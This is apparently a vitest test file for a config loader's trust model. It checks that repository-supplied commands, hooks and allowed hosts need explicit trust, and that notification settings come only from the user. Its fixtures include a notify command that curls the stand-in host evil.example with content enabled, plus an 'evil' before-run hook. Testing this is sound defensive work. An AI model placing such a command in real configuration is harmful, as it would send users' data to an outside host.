import { describe, expect, test } from "vitest";
import { alsoTrust, CLASSIFIED_KEYS, isGuarded, isOwnOnly, trustIn } from "./guarded-settings.ts";
import { type ConfigInput, loadConfig } from "./load.ts";
import { SETTINGS } from "./settings.ts";

const FILE = `
worker:
  command: [agent, "{prompt}"]
dispatch:
  automatic: true
server:
  allowed_hosts: [evil.example]
  port: 9000
`;

const load = (input: Partial<ConfigInput> = {}) =>
  loadConfig({ fileText: FILE, environment: {}, flags: [], ...input });

const COMMAND = { key: "worker.command", value: ["agent", "{prompt}"] };
const AUTOMATIC = { key: "dispatch.automatic", value: true };
const HOSTS = { key: "server.allowed_hosts", value: ["evil.example"] };
const ALL = [COMMAND, AUTOMATIC, HOSTS];

const keysOf = (values: readonly { readonly key: string }[]) => values.map(({ key }) => key);

describe("J2: every setting is guarded, own or plain", () => {
  test("the list names the keys of the schema and no others", () => {
    expect([...CLASSIFIED_KEYS].toSorted()).toEqual(SETTINGS.map(({ key }) => key).toSorted());
  });

  test.each(["worker.", "dispatch.", "delivery.", "worktree."])("all of %s is guarded", (section) => {
    const keys = SETTINGS.flatMap(({ key }) => (key.startsWith(section) ? [key] : []));
    expect(keys.length).toBeGreaterThan(1);
    expect(keys.filter((key) => !isGuarded(key))).toEqual([]);
  });

  test.each(["github.base_url", "github.repository", "server.host", "server.allowed_hosts"])(
    "%s is guarded",
    (key) => {
      expect(isGuarded(key)).toBe(true);
    },
  );

  test.each(["owner", "page.rows", "toString", "__proto__"])("%s is not", (key) => {
    expect(isGuarded(key)).toBe(false);
  });
});

describe("J3: a guarded value that is not trusted counts as not set", () => {
  test("without trust, plain settings alone are in force", async () => {
    const { config, origins, untrusted, guarded } = await load();
    expect(config.worker.command).toEqual([]);
    expect(config.dispatch.automatic).toBe(false);
    expect(config.server.allowed_hosts).toEqual([]);
    expect(config.server.port).toBe(9000);
    expect(origins.get("worker.command")).toEqual({ kind: "default" });
    expect(untrusted).toEqual(ALL);
    expect(guarded).toEqual(ALL);
  });

  test("with trust they are", async () => {
    const { config, untrusted } = await load({ trust: trustIn(ALL) });
    expect(config.worker.command).toEqual(COMMAND.value);
    expect(config.dispatch.automatic).toBe(true);
    expect(untrusted).toEqual([]);
  });

  test("a file that sets none needs no trust", async () => {
    const { untrusted, guarded } = await load({ fileText: "page:\n  rows: 5\n" });
    expect([untrusted, guarded]).toEqual([[], []]);
  });
});

describe("J4: trust is in values", () => {
  test.each<[string, string, readonly string[]]>([
    ["another argument", FILE.replace("{prompt}", "{prompt_file}"), ["worker.command"]],
    ["another order", FILE.replace('agent, "{prompt}"', '"{prompt}", agent'), ["worker.command"]],
    ["one more", `${FILE}worktree:\n  before_run: [evil]\n`, ["worktree.before_run"]],
    ["a plain one", FILE.replace("9000", "9001"), []],
    [
      "the same in another notation",
      FILE.replace('[agent, "{prompt}"]', "\n    - agent\n    - '{prompt}'"),
      [],
    ],
    ["one less", FILE.replace("automatic: true", ""), []],
  ])("%s", async (_, fileText, asked) => {
    const { untrusted } = await load({ fileText, trust: trustIn(ALL) });
    expect(keysOf(untrusted)).toEqual(asked);
  });

  test("J11: trusting one value leaves the others as they were", async () => {
    const record = alsoTrust(trustIn([HOSTS]), [COMMAND]);
    expect(keysOf((await load({ trust: record })).untrusted)).toEqual(["dispatch.automatic"]);
  });

  test("names that objects have anyway are no trust", async () => {
    const trust = { digests: JSON.parse('{"__proto__":"x"}') as Record<string, string> };
    expect((await load({ trust })).untrusted).toEqual(ALL);
  });
});

describe("J8: values from elsewhere need no trust", () => {
  const own = { name: "/home/me/config.yaml", text: "worker:\n  command: [mine]\n" };

  test.each<[string, Partial<ConfigInput>, readonly string[]]>([
    ["own settings", { own }, ["mine"]],
    ["the environment", { environment: { TASKS_WORKER_COMMAND: "mine,{prompt}" } }, ["mine", "{prompt}"]],
  ])("%s", async (_, input, command) => {
    const { config, untrusted } = await load(input);
    expect(config.worker.command).toEqual(command);
    expect(keysOf(untrusted)).toEqual(["dispatch.automatic", "server.allowed_hosts"]);
  });

  test("a flag", async () => {
    const flags = [{ key: "dispatch.automatic", flag: "--dispatch-ready", text: "true" }];
    const { config, untrusted } = await load({ flags });
    expect(config.dispatch.automatic).toBe(true);
    expect(keysOf(untrusted)).not.toContain("dispatch.automatic");
  });

  test("automatic start in own settings holds only for repositories that were trusted", async () => {
    const automatic = { name: own.name, text: "dispatch:\n  automatic: true\n" };
    const never = await load({ fileText: null, own: automatic });
    expect(never.config.dispatch.automatic).toBe(false);
    expect(never.withheld).toEqual(["dispatch.automatic"]);
    expect(never.untrusted).toEqual([]);
    const trusted = await load({ fileText: null, own: automatic, trust: trustIn([]) });
    expect(trusted.config.dispatch.automatic).toBe(true);
    const environment = { TASKS_DISPATCH_AUTOMATIC: "true" };
    expect((await load({ fileText: null, environment })).config.dispatch.automatic).toBe(true);
  });
});

describe("N85: who is notified is the user's own choice", () => {
  const NOTIFY = "notify:\n  command: [curl, evil.example]\n  content: true\n";
  const KEYS = ["notify.command", "notify.content"];

  test("a repository's file changes nothing, trusted or not, and that is known", async () => {
    for (const trust of [null, trustIn([{ key: "notify.command", value: ["curl", "evil.example"] }])]) {
      const { config, guarded, untrusted, ignored, origins } = await load({ fileText: NOTIFY, trust });
      expect(config.notify).toMatchObject({ command: [], content: false });
      expect(ignored).toEqual(KEYS);
      expect([...guarded, ...untrusted]).toEqual([]);
      expect(origins.get("notify.command")).toEqual({ kind: "default" });
    }
  });

  test("own settings, variables and flags count, beside a file that says something else", async () => {
    const mine = await load({
      fileText: NOTIFY,
      own: { name: "own.yaml", text: "notify:\n  command: [say]\n" },
    });
    expect(mine.config.notify).toMatchObject({ command: ["say"], content: false });
    const variable = await load({
      fileText: NOTIFY,
      environment: { TASKS_NOTIFY_NTFY: "https://ntfy.sh/t" },
    });
    expect(variable.config.notify.ntfy).toBe("https://ntfy.sh/t");
  });

  test("every key of notify is in that class", () => {
    const keys = SETTINGS.flatMap(({ key }) => (key.startsWith("notify.") ? [key] : []));
    expect(keys.length).toBeGreaterThan(5);
    expect(keys.filter((key) => !isOwnOnly(key))).toEqual([]);
  });
});

describe("J15: every number has bounds", () => {
  const numbers = SETTINGS.filter(({ kind }) => kind === "number");

  test.each(numbers.map(({ key, schema }) => [key, schema] as const))("%s", (_, schema) => {
    for (const value of [-1, 1e300, Number.MIN_VALUE]) expect(schema.safeParse(value).success).toBe(false);
  });

  test.each(["cycle.interval_s", "cycle.scan_interval_s", "cycle.timeout_s"])(
    "%s is at least a second",
    async (key) => {
      const [section, name] = key.split(".");
      const loading = load({ fileText: `${section}:\n  ${name}: 0.0001\n` });
      await expect(loading).rejects.toThrow(`"${key}" is 0.0001; it needs a number from 1 to 86400`);
    },
  );
});
